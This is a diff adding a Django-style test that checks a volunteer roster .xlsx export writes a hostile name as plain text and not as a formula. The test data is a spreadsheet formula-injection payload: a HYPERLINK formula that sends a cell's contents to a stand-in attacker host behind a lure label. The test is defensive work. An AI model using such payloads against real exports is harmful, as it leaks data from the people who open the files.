@@ -295,3 +295,14 @@ def test_hours_exports_are_for_coordinators_and_managers(client, past_slot, rost
 def test_annual_export_needs_a_year(client, manager):
     client.force_login(manager)
     assert client.get("/volunteers/manage/hours.xlsx", {"year": "twenty"}).status_code == 400
+
+
+def test_a_hostile_name_is_text_in_the_coordinators_export(client, past_slot, manager, make_volunteer):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")'
+    services.sign_up(make_volunteer("evil", hostile, "13800000009"), past_slot.pk)
+    client.force_login(manager)
+    response = client.get(f"/volunteers/manage/slots/{past_slot.pk}/roster.xlsx")
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert hostile in [cell.value for cell in cells]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
